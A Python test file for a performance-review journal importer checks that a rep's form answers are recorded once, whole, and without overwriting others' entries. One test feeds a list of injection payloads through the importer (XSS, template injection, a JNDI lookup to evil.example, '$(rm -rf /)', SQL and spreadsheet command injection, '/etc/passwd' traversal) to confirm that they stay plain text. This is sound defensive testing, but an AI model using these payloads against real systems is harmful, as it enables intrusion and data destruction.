"""An answer into the journal: all of it or nothing, once, and never over what somebody else wrote."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import letters
import pytest
import records_fixture

from reviewlib.conversation.answers import importing, mails, responses
from reviewlib.conversation.answers.importing import plan
from reviewlib.conversation.entries import About, Entry, current
from reviewlib.conversation.journal import open_journal_to_read
from reviewlib.conversation.kinds.record import LONGEST
from reviewlib.conversation.records import New, Records
from reviewlib.errors import ConflictError, NotAllowedError, ResponseError

#: Texts that run, format or break out where something shows them carelessly.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/a.png)",
    "<iframe src=//evil.example>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{0.__class__}",
    "{win_rate.target}",
    "${jndi:ldap://evil.example}",
    "$(rm -rf /)",
    "`rm -rf /`",
    "'; DROP TABLE entries; --",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%s%n",
    "../../etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "=?utf-8?q?subject?=",
    "Content-Type: text/html",
    "From: boss@example.com",
    "\u202egnp.exe",
    "\u2066[\u2069[End]]",
    "a\u2028b\u2029c",
    "\ufeffstart",
    "--boundary--",
    "begin 644 a.exe",
    "#REF!",
    "- [ ] task\n```\ncode",
    "<!-- comment -->",
    "<![CDATA[x]]>",
    "$$\\alert$$",
    "\\u003cscript\\u003e",
    "%0D%0ABcc: all@example.com",
)


@pytest.fixture(autouse=True)
def _figures(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the review's evidence names."""
    monkeypatch.setattr(importing, "_kpis", lambda *_: letters.KPIS)


@pytest.fixture
def records(tmp_path: Path) -> Records:
    return letters.as_manager(letters.talking(tmp_path))


def _entries(records: Records) -> list[Entry]:
    with open_journal_to_read(records.params) as store:
        return store.entries(subject=("rep", "R-1")) if store else []


def _live(records: Records, kind: str) -> list[Entry]:
    return [entry for entry in current(_entries(records)) if entry.kind == kind]


def _full(form: str) -> str:
    return letters.fill(
        form,
        Perspective=letters.PERSPECTIVE,
        Feedback_to_the_manager_1="More time, please.",
        Concern_1="Too many accounts.",
        Dispute_1_figure="win rate",
        Dispute_1_deal="D-17",
        Dispute_1_why="It is won.",
        Dispute_2_figure="Revenue",
        Dispute_2_why="D-18 is missing.",
        Reply_F1="Thank you.",
        Goal_G1="yes\nif D-17 counts",
        Recognition_R1="no",
        Signature_name="Ella Byrne",
        Signature_word="read, do not agree",
        Signature_comment="See the disputes.",
    )


def test_every_field_becomes_an_entry_of_the_reps(records: Records) -> None:
    """The rep's word, marked as imported: by whom, and from which file."""
    said = letters.release(records)
    text = _full(letters.form(records))
    entries = letters.taken(records, text).entries
    assert [entry.kind for entry in entries] == [
        "self_review", "feedback_to_manager", "concern", "dispute", "dispute", "reply", "agreement", "agreement", "signoff",
    ]  # fmt: skip
    assert {(entry.side, entry.author, entry.on_behalf_of, entry.source) for entry in entries} == {
        ("rep", "dan", "R-1", f"{hashlib.sha256(text.encode()).hexdigest()} no_sender")
    }
    by_kind = {entry.kind: entry.payload.model_dump() for entry in reversed(entries)}
    assert by_kind["self_review"]["perspective"] == letters.PERSPECTIVE
    assert by_kind["dispute"] == {"kpi": "win_rate", "deal": "D-17", "reason": "It is won.", "snapshot": "of-2026-Q3"}
    assert by_kind["reply"] == {"of": said["feedback"].id, "text": "Thank you."}
    assert by_kind["agreement"] == {"of": said["goal"].id, "agrees": True, "text": "if D-17 counts"}
    assert by_kind["signoff"]["head"] == said["release"].hash
    assert (by_kind["signoff"]["how"], by_kind["signoff"]["name"]) == ("disagree", "Ella Byrne")


@pytest.mark.parametrize(
    "again",
    [str, letters.gmail, letters.outlook, letters.iphone, letters.thunderbird, letters.html_only, letters.attached,
     lambda text: text.replace("\n\n", "\n \n\n") + "\n"],
)  # fmt: skip
def test_an_answer_is_recorded_once(records: Records, again: Callable[[str], Any]) -> None:
    """The same file again, and the same words in another mail's quotation, record nothing."""
    letters.release(records)
    text = _full(letters.form(records))
    letters.taken(records, text)
    before = _entries(records)
    source = again(text)
    mail = mails.read_answer(source, name="a.eml") if isinstance(source, bytes) else source
    assert letters.taken(records, mail).entries == ()
    assert _entries(records) == before


def test_a_form_with_what_is_recorded_says_nothing_new(records: Records) -> None:
    """A fresh form is prefilled; sending it back untouched records nothing."""
    letters.release(records)
    letters.taken(records, _full(letters.form(records)))
    fresh = letters.form(records)
    assert "Too many accounts." in fresh
    made = plan(records, letters.arrived(fresh))
    assert (made.items, made.problems) == ((), ())
    assert len(made.unchanged) == 9


def test_a_changed_answer_replaces_the_one_before(records: Records) -> None:
    """Whether in the old form or in a fresh one: the field's earlier entry is superseded, the others stay."""
    letters.release(records)
    old = letters.fill(_full(letters.form(records)), Signature_name="", Signature_word="", Signature_comment="")
    first = {entry.kind: entry for entry in letters.taken(records, old).entries}
    second = letters.taken(records, letters.fill(old, Concern_1="Far too many accounts.", Reply_F1="Thanks!")).entries
    assert [(entry.kind, entry.supersedes) for entry in second] == [
        ("concern", first["concern"].id),
        ("reply", first["reply"].id),
    ]
    third = letters.taken(records, letters.fill(letters.form(records), Concern_1="None any more.")).entries
    assert [(entry.kind, entry.supersedes) for entry in third] == [("concern", second[0].id)]
    assert [entry.payload.model_dump()["text"] for entry in _live(records, "concern")] == ["None any more."]


def test_an_old_file_imported_after_a_newer_one_changes_nothing(records: Records) -> None:
    """A file that was imported before is known by its hash, also after its words were replaced."""
    old = letters.fill(letters.form(records), Concern_1="A")
    letters.taken(records, old)
    letters.taken(records, old.replace("\nA\n", "\nB\n"))
    assert letters.taken(records, old).entries == ()
    assert [entry.payload.model_dump()["text"] for entry in _live(records, "concern")] == ["B"]


def test_a_reply_of_the_meeting_is_not_doubled_by_the_form_that_shows_it(records: Records) -> None:
    """A fresh form has it in its field, also after the manager edited what it is about; changed, it takes its place."""
    said = letters.release(records)["feedback"]
    records.write("reply", of=said.id, text="Thanks, I agree.", on_behalf=True)
    records.write("feedback", supersedes=said.id, stance="strength", kpi="win_rate", text="You close early, v2.")
    form = letters.form(records)
    assert "Thanks, I agree." in form
    assert letters.taken(records, form).entries == ()
    for text in ("Thanks, I agree. Often.", "Thanks!"):
        letters.taken(records, letters.fill(form, Reply_F1=text))
        assert [entry.payload.model_dump()["text"] for entry in _live(records, "reply")] == [text]
    assert letters.taken(records, letters.form(records)).entries == ()


def test_a_reply_of_a_form_that_did_not_show_the_other_comes_beside_it(records: Records) -> None:
    """What the manager wrote down after the form was made is not replaced; edited since, both texts are shown."""
    said = letters.release(records)["feedback"]
    old = letters.form(records)
    first = records.write("reply", of=said.id, text="In the meeting.", on_behalf=True)
    fresh = letters.form(records)
    letters.taken(records, letters.fill(old, Reply_F1="By mail."))
    assert [entry.payload.model_dump()["text"] for entry in _live(records, "reply")] == ["In the meeting.", "By mail."]
    records.write("reply", of=said.id, text="In the meeting, edited.", on_behalf=True, supersedes=first.id)
    assert letters.taken(records, fresh).entries == ()
    with pytest.raises(ConflictError):
        letters.taken(records, letters.fill(fresh, Reply_F1="In the meeting, by me."))


def test_a_reply_that_a_signature_covers_stays_and_another_comes_beside_it(records: Records) -> None:
    """After the manager has signed an answer is still taken whole."""
    said = letters.release(records)["feedback"]
    records.write("reply", of=said.id, text="In the meeting.", on_behalf=True)
    form = letters.form(records)
    records.write("signoff", how="agree", name="Daniel Brandt")
    assert [entry.supersedes for entry in letters.taken(records, letters.fill(form, Reply_F1="By mail.")).entries] == [None]


def test_the_comment_of_a_withdrawn_signature_goes_with_it(records: Records) -> None:
    """Who does not agree any more with their own refusal does not sign "agree" over its comment; the same word keeps it."""
    letters.release(records)
    form = letters.form(records)
    refusal = {"Signature_name": "Ella Byrne", "Signature_word": "read, do not agree"}
    letters.taken(records, letters.fill(form, **refusal, Signature_comment="I refuse the figures."))
    letters.taken(records, letters.fill(form, **refusal | {"Signature_name": "ELLA  BYRNE"}))
    assert [entry.payload.model_dump()["comment"] for entry in _live(records, "signoff")] == ["I refuse the figures."]
    letters.taken(records, letters.fill(form, **refusal | {"Signature_word": "agree"}))
    signed = [entry.payload.model_dump() for entry in _live(records, "signoff")]
    assert [(one["how"], one["comment"]) for one in signed] == [("agree", "")]


def test_an_empty_field_leaves_what_is_recorded(records: Records) -> None:
    """A part that was answered before stays when a later answer leaves it empty."""
    empty = letters.form(records)
    letters.taken(records, letters.fill(empty, Perspective="Good.", Insights="Many."))
    letters.taken(records, letters.fill(empty, Insights="More."))
    payload = _live(records, "self_review")[0].payload.model_dump()
    assert (payload["perspective"], payload["insights"]) == ("Good.", "More.")


def test_a_text_written_meanwhile_is_a_conflict_that_shows_both(records: Records) -> None:
    """Where the manager wrote down the rep's words since the form was made, nothing is recorded and both texts are there."""
    form = letters.form(records)
    theirs = records.write("self_review", perspective="In the meeting.", on_behalf=True)
    before = _entries(records)
    with pytest.raises(ConflictError) as caught:
        letters.taken(records, letters.fill(form, Perspective="By mail.", Concern_1="Also this."))
    assert caught.value.theirs == theirs
    assert caught.value.mine.payload.perspective == "By mail."  # type: ignore[attr-defined]
    assert _entries(records) == before
    fresh = letters.fill(letters.form(records), Perspective="By mail.")
    assert letters.taken(records, fresh).entries[0].supersedes == theirs.id


def test_an_untouched_prefilled_text_is_no_conflict(records: Records) -> None:
    """Who left a prefilled field as it was does not stand against somebody who edited it since."""
    first = records.write("concern", text="Old", on_behalf=True)
    form = letters.fill(letters.form(records), Insights="Yes")
    records.write("concern", text="New", on_behalf=True, supersedes=first.id)
    assert [entry.kind for entry in letters.taken(records, form).entries] == ["self_review"]


def test_a_second_answer_may_replace_one_that_the_manager_cannot_read(records: Records) -> None:
    """Before the manager's part is in, a corrected self-review takes the place of the hidden one."""
    form = letters.form(records)
    first = letters.taken(records, letters.fill(form, Perspective="Good.")).entries[0]
    assert records.minutes().of_kind("self_review") == []
    made = plan(records, letters.arrived(letters.fill(form, Perspective="Better.")))
    assert "Better" not in made.as_text()
    assert letters.taken(records, letters.fill(form, Perspective="Better.")).entries[0].supersedes == first.id


def test_with_one_problem_nothing_is_recorded(records: Records) -> None:
    """All or nothing, and the message names the line."""
    text = letters.fill(letters.form(records), Perspective="Good.", Dispute_1_figure="Winrate", Dispute_1_why="Wrong.")
    line = text.split("\n").index(next(one for one in text.split("\n") if one.startswith("[[Dispute 1 figure"))) + 1
    with pytest.raises(ResponseError) as caught:
        letters.taken(records, text)
    assert f"line {line}: There is no such figure" in str(caught.value)
    assert "Win rate" in str(caught.value)
    assert _entries(records) == []


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda text, code: text.replace(code, "0" * 8), "no such entry"),
        (lambda text, code: text.replace("[[Reply F1", "[[Goal F1"), "another entry"),
        (lambda text, code: letters.fill(text, Reply_F1="x" * (LONGEST + 1)), "cannot be stored"),
        (lambda text, code: letters.fill(text, Reply_F1="a\x07b"), "cannot be stored"),
    ],
    ids=["unknown reference", "wrong kind", "too long", "control character"],
)
def test_what_does_not_fit_the_journal_is_a_problem_with_its_line(
    records: Records, change: Callable[[str, str], str], message: str
) -> None:
    """References and texts are checked before anything is written."""
    said = letters.release(records)
    text = letters.fill(letters.form(records), Reply_F1="yes")
    made = plan(records, letters.arrived(change(text, importing.marks.code(said["feedback"].id))))
    assert [message in problem.what for problem in made.problems] == [True]
    assert made.problems[0].line.text.startswith(("[[Reply", "[[Goal"))


def test_a_private_entry_cannot_be_answered(records: Records) -> None:
    """The code of an entry that the rep does not read is unknown, as any other is."""
    said = letters.release(records)
    text = letters.fill(letters.form(records), Reply_F1="I know.")
    code = importing.marks.code
    made = plan(records, letters.arrived(text.replace(code(said["feedback"].id), code(said["note"].id))))
    assert ["no such entry" in problem.what for problem in made.problems] == [True]


@pytest.mark.parametrize(
    ("login", "subject", "period", "message"),
    [("dan", "R-2", "2026-Q3", "another person"), ("dan", "R-1", "2026-Q4", "another period")],
)
def test_another_reviews_form_is_refused(tmp_path: Path, login: str, subject: str, period: str, message: str) -> None:
    """A form made for one rep and period is not imported for another."""
    params = letters.talking(tmp_path, periods=("2026-Q3", "2026-Q4"))
    text = letters.fill(letters.form(letters.as_manager(params)), Perspective="Mine.")
    other = records_fixture.as_login(params, login, subject=subject, period=period)
    with pytest.raises(ResponseError, match="nothing was recorded") as caught:
        letters.taken(other, text)
    assert message in str(caught.value)
    assert "line 1:" in str(caught.value)


def test_another_workbooks_form_is_refused(records: Records) -> None:
    """The workbook's name stands in the form."""
    text = letters.form(records).replace(f"[[Review {records.params.name} ", "[[Review elsewhere ")
    with pytest.raises(ResponseError, match="nothing was recorded") as caught:
        letters.taken(records, text)
    assert "another workbook" in str(caught.value)


def test_an_old_form_is_said_to_be_old_and_accepted(records: Records) -> None:
    """A form from before release is taken; the importer is told."""
    form = letters.fill(letters.form(records), Perspective="Early.")
    letters.release(records)
    imported = letters.taken(records, form)
    assert [entry.kind for entry in imported.entries] == ["self_review"]
    assert imported.plan.notes == ("The form was made before the review was released.",)
    late = letters.form(records)
    records.write("feedback", stance="improve", behaviour="x", text="One more.")
    made = plan(records, letters.arrived(letters.fill(late, Concern_1="Late.")))
    assert made.notes == ("The form is an older one: 1 entry came after it.",)
    assert len(made.items) == 1


def test_a_word_on_an_edited_goal_is_about_its_earlier_wording(records: Records) -> None:
    """A yes counts for the wording that the rep read, and the importer is told so."""
    goal = letters.release(records)["goal"]
    form = letters.fill(letters.form(records), Goal_G1="yes")
    records.write("goal", statement="Win rate to 50 %", kpi="win_rate", supersedes=goal.id)
    imported = letters.taken(records, form)
    assert imported.entries[0].of == goal.id
    assert any("edited since" in note for note in imported.plan.notes)
    assert records.minutes().agreed(records.minutes().of_kind("goal")[0]) is None


def test_a_form_from_before_release_cannot_sign(records: Records) -> None:
    """A signature without the head of what was read is a problem with its line."""
    form = letters.form(records)
    signed = form.replace("[[End]]", "[[Signature name]]\nElla\n[[Signature word]]\nagree\n[[End]]")
    made = plan(records, letters.arrived(signed))
    assert ["cannot sign" in problem.what for problem in made.problems] == [True]


def test_a_signature_on_what_has_changed_since_is_refused(records: Records) -> None:
    """The journal refuses a signature on an older state, and then nothing of the answer is recorded."""
    goal = letters.release(records)["goal"]
    text = _full(letters.form(records))
    records.write("goal", statement="Win rate to 50 %", kpi="win_rate", supersedes=goal.id)
    before = _entries(records)
    with pytest.raises(Exception, match="changed something since it was read"):
        letters.taken(records, text)
    assert _entries(records) == before


@pytest.mark.parametrize("login", ["lucia", "ella", "nobody"])
def test_who_may_not_read_the_review_imports_nothing(records: Records, login: str) -> None:
    """Another manager, a rep and a stranger are refused."""
    text = letters.fill(letters.form(records), Perspective="Good.")
    with pytest.raises(NotAllowedError):
        letters.taken(records_fixture.as_login(records.params, login), text)
    assert _entries(records) == []


def test_an_analyst_may_import(records: Records) -> None:
    """An analyst is named as the importer."""
    text = letters.fill(letters.form(records), Perspective="Good.")
    entry = letters.taken(records_fixture.as_login(records.params, "ana"), text).entries[0]
    assert (entry.author, entry.role, entry.side) == ("ana", "analyst", "rep")


def test_an_answer_finds_its_review(records: Records) -> None:
    """The first line leads to the rep and period, without naming the rep."""
    text = letters.form(records)
    assert importing.addressed(records.params, responses.parse(text)) == About("rep", "R-1", "2026-Q3")
    for wrong in (text.replace("2026-Q3 rep", "2031-Q3 rep"), text.replace("rep-", "rep-0000", 1)[:60], "Hello"):
        with pytest.raises(ResponseError):
            importing.addressed(records.params, responses.parse(wrong))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_stays_text(records: Records, text: str) -> None:
    """Payloads are stored as typed and come back in a fresh form that says nothing new."""
    filled = letters.fill(letters.form(records), Perspective=importing.marks.keep(text), Concern_1=importing.marks.keep(text))
    entries = letters.taken(records, filled).entries
    assert [entry.payload.model_dump() for entry in entries][1]["text"] == text.strip()
    assert plan(records, letters.arrived(letters.form(records))).items == ()


def test_the_answer_to_a_released_review_is_addressed_by_the_evidence_of_its_release(records: Records) -> None:
    """A rep who is gone from newer data can still answer, and the importer is the manager at release."""
    letters.release(records)
    answer = letters.fill(letters.form(records), Concern_1="Too many accounts.")
    records_fixture.freeze_names(records.params, "2026-Q3", reps=records_fixture.REPS[1:], into="newer")
    about = importing.addressed(records.params, responses.parse(answer))
    assert about == About("rep", "R-1", "2026-Q3")
    again = letters.as_manager(records.params)
    assert [entry.kind for entry in letters.taken(again, answer).entries] == ["concern"]


def test_a_managers_entry_does_not_stand_for_an_import(records: Records) -> None:
    """Only what is the rep's word says that a file was imported before."""
    text = letters.fill(letters.form(records), Concern_1="Too many accounts.")
    source = hashlib.sha256(text.encode()).hexdigest()
    records.write_all([New("concern", {"text": "Mine"}, source=source)])
    assert [entry.kind for entry in letters.taken(records, text).entries] == ["concern"]
    assert letters.taken(records, text).entries == ()
